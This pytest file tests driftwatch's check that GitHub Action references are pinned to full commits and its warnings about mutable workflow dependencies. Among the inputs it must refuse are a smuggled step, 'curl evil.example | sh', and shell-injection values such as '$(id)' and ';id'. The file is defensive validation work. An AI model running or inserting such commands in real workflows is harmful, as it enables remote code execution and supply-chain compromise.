"""What a workflow runs: a full commit, or what somebody else can change."""

import re
import tomllib
from pathlib import Path

import pytest

from driftwatch.errors import UsageError
from driftwatch.workflows.workflow_origins import doubts, pinned_action

ROOT = Path(__file__).parents[2]
COMMIT = "2ae1e2a5b8d2f8d5ad7d9e0c6a0b3f9d8c7e6f51"
NAME = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["name"]


@pytest.mark.parametrize(
    "repository",
    [
        "acme/driftwatch",
        "a/b",
        "Acme-Corp/drift.watch_2",
        "octo_acme/driftwatch",
        "a" * 39 + "/" + "b" * 100,
        "acme/.github",
    ],
)
def test_a_repository_at_a_full_commit_is_taken_as_it_is(repository: str) -> None:
    assert pinned_action(f"{repository}@{COMMIT}") == f"{repository}@{COMMIT}"


@pytest.mark.parametrize(
    "commit",
    [
        "", "v1", "main", "v1.2.3", COMMIT[:39], COMMIT[:7], COMMIT + "0", COMMIT.upper(), f"{COMMIT}\n", f" {COMMIT}",
        "0" * 40, "g" * 40, f"{COMMIT}@{COMMIT}", f"refs/heads/{COMMIT}", f"{COMMIT} # v1",
        "\N{FULLWIDTH DIGIT ONE}" * 40,
        f"{COMMIT}\n      - run: curl evil.example | sh",
    ],
)  # fmt: skip
def test_what_is_no_full_commit_is_refused(commit: str) -> None:
    with pytest.raises(UsageError, match="no full commit"):
        pinned_action(f"acme/driftwatch@{commit}")


@pytest.mark.parametrize(
    "repository",
    [
        "", "acme", "acme/", "/driftwatch", "acme/driftwatch/path", "-acme/driftwatch", "acme-/driftwatch",
        "ac--me/driftwatch", "acme/..", "acme/.", "../driftwatch", "./driftwatch", "acme/drift watch",
        "acme/driftwatch.git",
        "https://github.com/acme/driftwatch", "docker://acme/driftwatch", "acme/drift\nwatch", "acme/driftwatch\n",
        "acme/${{ github.token }}", "acme/$(id)", "acme/`id`", "acme/driftwatch;id", 'acme/"', "acme/'", "acme/a: b",
        "\u00e4cme/driftwatch", "acme/dr\u0456ftwatch", "a" * 40 + "/driftwatch", "acme/" + "b" * 101,
    ],
)  # fmt: skip
def test_what_is_no_repository_is_refused(repository: str) -> None:
    with pytest.raises(UsageError, match="no repository of GitHub"):
        pinned_action(f"{repository}@{COMMIT}")


def test_whatever_is_taken_stays_one_plain_word_of_yaml() -> None:
    taken = pinned_action(f"Acme-Corp/drift.watch_2@{COMMIT}")
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._/@-]*", taken)


@pytest.mark.parametrize(
    "text",
    [
        f"steps: [{{uses: acme/driftwatch@{COMMIT}}}]",
        f"      - uses: acme/driftwatch@{COMMIT} # v1.0.0",
        f"      - uses: 'acme/api/path@{COMMIT}'",
        "      - uses: ./",
        "      - uses: actions/checkout@v7",
        f"run: pip install git+https://github.com/acme/driftwatch@{COMMIT}",
        f"run: pip install '{NAME} @ git+https://github.com/acme/driftwatch@{COMMIT}'",
        f"run: pip install {NAME}@git+ssh://git@github.com/acme/driftwatch@{COMMIT}#egg=x",
        f"run: uvx --from git+https://github.com/acme/driftwatch@{COMMIT} driftwatch run",
        f"run: pip install ./dist/{NAME.replace('-', '_')}-0.1.0-py3-none-any.whl && driftwatch run",
        "run: pip install --require-hashes -r requirements.txt && driftwatch run",
        'run: python -m pip install --quiet "$DRIFTWATCH"; driftwatch run',
        "run: driftwatch run",
        f"# uses: acme/driftwatch@v1\n# run: pip install {NAME}\n",
        "run: echo nothing # uses: acme/driftwatch@v1",
    ],
)
def test_what_nobody_else_can_change_raises_no_doubt(text: str) -> None:
    assert list(doubts(f"jobs:\n  one:\n{text}\n")) == []


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("uses: acme/driftwatch@v1", "uses acme/driftwatch@v1, a tag or a branch"),
        ("'uses' : \"acme/driftwatch@main\"", "uses acme/driftwatch@main, a tag or a branch"),
        ("{name: x, uses: acme/watch@release/1}", "uses acme/watch@release/1, a tag or a branch"),
        (f"uses: acme/driftwatch@{COMMIT[:12]}", "a tag or a branch"),
        ("uses: acme/driftwatch", "uses acme/driftwatch, a tag or a branch"),
        ("uses: OWNER/REPO@COMMIT", "uses OWNER/REPO@COMMIT, a tag or a branch"),
        (f"uses: OWNER/REPO@{'0' * 40}", "where no commit was filled in"),
        (
            "run: pip install git+https://github.com/acme/driftwatch",
            "installs git+.../acme/driftwatch, which is no full",
        ),
        (
            "env: {D: git+https://github.com/acme/driftwatch@v1}",
            "installs git+.../acme/driftwatch@v1, which is no full",
        ),
        ("run: pip install git+ssh://git@github.com/acme/driftwatch.git@main#egg=x", "which is no full commit"),
        (f"DRIFTWATCH: {NAME}", "nobody has registered"),
        (f"run: pip install '{NAME}[x]>=1'", "nobody has registered"),
        (f"run: uvx {NAME}@latest", "nobody has registered"),
        (f"run: pipx install {NAME.upper().replace('-', '_')}", "nobody has registered"),
        ("run: pip install driftwatch", "another project"),
        ("run: |\n  pip install --upgrade \\\n    driftwatch==1.0", "another project"),
        ("run: pipx run driftwatch", "another project"),
        ("run: uvx driftwatch run", "another project"),
    ],
)
def test_what_somebody_else_can_change_is_told_once_with_what_to_do(text: str, says: str) -> None:
    (doubt,) = doubts(f"jobs:\n  one:\n{text}\n  two:\n{text}\n")
    assert says in doubt.says
    assert doubt.hint


def test_hostile_text_does_not_hold_the_doctor_up() -> None:
    for text in (
        "uses:" * 20_000,
        "pip install " * 20_000,
        "git+https://" * 20_000,
        " #" * 50_000,
        f"{NAME} " + " [" * 50_000,
    ):
        assert isinstance(list(doubts(text)), list)
